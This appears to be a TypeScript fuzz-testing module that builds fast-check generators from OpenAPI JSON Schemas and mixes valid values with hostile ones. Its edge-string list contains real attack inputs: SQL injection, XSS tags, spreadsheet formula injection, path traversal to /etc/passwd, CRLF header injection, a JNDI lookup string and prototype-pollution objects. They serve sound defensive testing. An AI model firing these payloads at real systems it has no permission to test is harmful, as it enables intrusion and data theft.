/**
 * JSON Schema (as the OpenAPI document publishes it) → fast-check arbitraries. Each value is
 * either one the schema accepts, biased to its bounds and to hostile-but-valid text (RTL marks,
 * zero-width joiners, emoji, injection strings), or a hostile one (wrong type, out of bounds, NUL,
 * lone surrogates, huge, deeply nested). Mixing them at every level gives requests that pass
 * validation in part and reach the services with odd values.
 */
import fc from "fast-check";
import type { JsonSchema } from "./world";

/** Strings an attacker or a broken client sends. Each one is worth storing and reading back. */
export const EDGE_STRINGS: readonly string[] = [
  "",
  " ",
  "\t\r\n",
  "\u202Eevil\u202C", // right-to-left override
  "\u200F\u200E\u061C", // RTL / LTR marks, Arabic letter mark
  "👨‍👩‍👧‍👦", // zero-width joiner sequence
  "\u200D\u200B\uFEFF", // ZWJ, zero-width space, BOM
  "💉🦠😷",
  "\uD800", // lone high surrogate
  "\uDFFF", // lone low surrogate
  "a\uD83Db", // high surrogate without its pair
  "\u0000", // NUL
  "a\u0000b",
  "\u0001\u001F\u007F\u0085\u2028\u2029",
  `e${"\u0301".repeat(60)}`, // stacked combining marks
  "ﬁİßǅⅫ", // case folding and compatibility forms
  "Nguyễn Thị Ánh Tuyết",
  "'; drop table people; --",
  "' OR '1'='1",
  "1); select pg_sleep(5); --",
  "$$; drop table users; $$",
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "\"><svg onload=alert(1)>",
  "=cmd|' /C calc'!A0",
  "+SUM(1,2)",
  "@HYPERLINK(\"http://x\")",
  "../../../../etc/passwd",
  "%00%2e%2e%2f",
  "x\r\nSet-Cookie: a=b",
  "${jndi:ldap://x/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "0x10",
  " 42 ",
  "9".repeat(400),
  "null",
  "true",
  "[]",
  "{}",
  "0000-00-00",
  "2026-02-30",
  "2026-13-01",
  "9999-12-31",
  "0001-01-01",
  "1970-01-01T00:00:00Z",
  "275760-09-13T00:00:00.001Z",
  "00000000-0000-0000-0000-000000000000",
  "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
  "00000000-0000-0000-0000-00000000000g",
];

const HUGE_STRINGS = ["A".repeat(70_000), "ệ".repeat(30_000), "😷".repeat(20_000), "\u0000".repeat(1000)];

/** Numbers at and past every bound a schema can set, and the ones JSON cannot carry exactly. */
const EDGE_NUMBERS = [0, -0, -1, 1, 0.5, -0.5, 1.5, 2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, -(2 ** 53), 2 ** 63, 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER + 2];

export interface SchemaContext {
  components: Record<string, JsonSchema>;
  /** Real values for a property or parameter name (known ids, commune codes…), mixed into valid ones. */
  hint?: (name: string, schema: JsonSchema) => fc.Arbitrary<unknown> | undefined;
  /** Only values the schema accepts, at every level (no hostile property values). */
  strict?: boolean;
}

const MAX_DEPTH = 8;

export function resolve(schema: JsonSchema, ctx: SchemaContext): JsonSchema {
  let s = schema;
  for (let i = 0; s && typeof s.$ref === "string" && i < 20; i++) s = ctx.components[s.$ref.replace("#/components/schemas/", "")] ?? {};
  return s ?? {};
}

/** A deeply nested value: arrays or objects `depth` levels down. */
export function nested(depth: number, kind: "array" | "object" = "array"): unknown {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) v = kind === "array" ? [v] : { a: v };
  return v;
}

/** A value the schema would refuse, or that is hostile in any schema. */
export function hostile(schema: JsonSchema, ctx: SchemaContext): fc.Arbitrary<unknown> {
  const s = resolve(schema, ctx);
  const type = Array.isArray(s.type) ? s.type.find((t: string) => t !== "null") : s.type;
  const wrong: unknown[] = [null, true, false, 0, -1, "", [], {}, [null], { __proto__: { admin: true } }, JSON.parse('{"__proto__":{"isAdmin":true}}')];
  const arbs: fc.Arbitrary<unknown>[] = [
    fc.constantFrom(...wrong),
    fc.constantFrom(...EDGE_STRINGS),
    fc.constantFrom(...EDGE_NUMBERS),
    fc.constantFrom(nested(40), nested(40, "object"), nested(300)),
    fc.string({ unit: "binary", maxLength: 40 }),
  ];
  if (type === "string") {
    arbs.push(fc.constantFrom(...HUGE_STRINGS));
    if (typeof s.maxLength === "number") arbs.push(fc.constant("x".repeat(s.maxLength + 1)));
    if (typeof s.minLength === "number" && s.minLength > 0) arbs.push(fc.constant("x".repeat(s.minLength - 1)));
  }
  if (type === "integer" || type === "number") {
    const bounds: number[] = [];
    if (typeof s.minimum === "number") bounds.push(s.minimum - 1, s.minimum - 0.5);
    if (typeof s.maximum === "number") bounds.push(s.maximum + 1, s.maximum + 0.5);
    if (bounds.length) arbs.push(fc.constantFrom(...bounds));
    arbs.push(fc.constantFrom("12", "NaN", "Infinity", "-Infinity", "1e3", ""));
  }
  if (type === "array") arbs.push(fc.constantFrom(Array.from({ length: 5000 }, (_, i) => i), Array.from({ length: 2000 }, () => "x")));
  return fc.oneof(...arbs);
}

/** Strings within [min, max] built from the edge strings and random text of every unit. */
function validString(s: JsonSchema): fc.Arbitrary<string> {
  const min = typeof s.minLength === "number" ? s.minLength : 0;
  const max = typeof s.maxLength === "number" ? s.maxLength : 300;
  const fit = (v: string) => {
    let out = v.length > max ? v.slice(0, max) : v;
    while (out.length < min) out += "a";
    return out;
  };
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.constantFrom(...EDGE_STRINGS) },
      { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: Math.min(max, 60) }) },
      { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: Math.min(max, 60) }) },
      { weight: 1, arbitrary: fc.constant("ạ".repeat(Math.min(max, 100_000))) },
      { weight: 1, arbitrary: fc.lorem({ maxCount: 5 }) },
    )
    .map(fit);
}

function patternString(pattern: string): fc.Arbitrary<string> {
  try {
    return fc.stringMatching(new RegExp(pattern), { size: "small" });
  } catch {
    return fc.string();
  }
}

/** A value the schema accepts (as far as JSON Schema says: refinements in code may still refuse it). */
export function valid(schema: JsonSchema, ctx: SchemaContext, name = "", depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(schema, ctx);
  if (depth > MAX_DEPTH) return fc.constant(null);
  const hinted = name && ctx.hint ? ctx.hint(name, s) : undefined;
  const plain = validPlain(s, ctx, depth);
  return hinted ? fc.oneof({ weight: 3, arbitrary: hinted }, { weight: 1, arbitrary: plain }) : plain;
}

function validPlain(s: JsonSchema, ctx: SchemaContext, depth: number): fc.Arbitrary<unknown> {
  if ("const" in s) return fc.constant(s.const);
  if (Array.isArray(s.enum) && s.enum.length) return fc.constantFrom(...s.enum);
  if (Array.isArray(s.allOf)) {
    const parts = s.allOf.map((p: JsonSchema) => valid(p, ctx, "", depth + 1));
    return fc.tuple(...parts).map((values) => {
      const objects = values.filter((v) => v && typeof v === "object" && !Array.isArray(v));
      return objects.length ? Object.assign({}, ...objects) : values[values.length - 1];
    });
  }
  const alternatives = s.anyOf ?? s.oneOf;
  if (Array.isArray(alternatives) && alternatives.length) return fc.oneof(...alternatives.map((p: JsonSchema) => valid(p, ctx, "", depth + 1)));
  if (Array.isArray(s.type)) {
    const types = s.type as string[];
    return fc.oneof(...types.map((t) => (t === "null" ? fc.constant(null) : validPlain({ ...s, type: t }, ctx, depth))));
  }
  switch (s.type) {
    case "string":
      if (s.format === "uuid") return fc.uuid();
      if (s.format === "date-time")
        return fc.oneof(
          fc.date({ min: new Date("1900-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString()),
          fc.constantFrom("1970-01-01T00:00:00.000Z", "2026-10-14T23:59:59.999Z", "2026-10-14T17:00:00.000Z"),
        );
      if (s.format === "date") return fc.date({ min: new Date("1900-01-01"), max: new Date("2100-01-01"), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
      if (typeof s.pattern === "string") return patternString(s.pattern);
      return validString(s);
    case "integer": {
      const min = typeof s.minimum === "number" ? s.minimum : -(2 ** 31);
      const max = typeof s.maximum === "number" ? s.maximum : 2 ** 31 - 1;
      return fc.oneof(fc.integer({ min, max }), fc.constantFrom(min, max, Math.min(max, Math.max(min, 0)), Math.min(max, min + 1)));
    }
    case "number": {
      const min = typeof s.minimum === "number" ? s.minimum : -1e9;
      const max = typeof s.maximum === "number" ? s.maximum : 1e9;
      return fc.oneof(fc.double({ min, max, noNaN: true, noDefaultInfinity: true }), fc.constantFrom(min, max));
    }
    case "boolean":
      return fc.boolean();
    case "array": {
      const minLength = typeof s.minItems === "number" ? s.minItems : 0;
      const maxLength = Math.max(minLength, Math.min(typeof s.maxItems === "number" ? s.maxItems : 6, 6));
      return fc.array(valid(s.items ?? {}, ctx, "", depth + 1), { minLength, maxLength });
    }
    case "object":
    case undefined: {
      const props = (s.properties ?? {}) as Record<string, JsonSchema>;
      const keys = Object.keys(props);
      if (!keys.length) return s.type === "object" ? fc.constant({}) : fc.jsonValue({ maxDepth: 2 });
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      for (const k of keys) model[k] = ctx.strict ? valid(props[k]!, ctx, k, depth + 1) : value(props[k]!, ctx, k, depth + 1);
      const required = ((s.required ?? []) as string[]).filter((k) => keys.includes(k));
      return fc.record(model, { requiredKeys: required });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Mostly valid, sometimes hostile: the value generator of every field. */
export function value(schema: JsonSchema, ctx: SchemaContext, name = "", depth = 0): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 7, arbitrary: valid(schema, ctx, name, depth) }, { weight: 1, arbitrary: hostile(schema, ctx) });
}
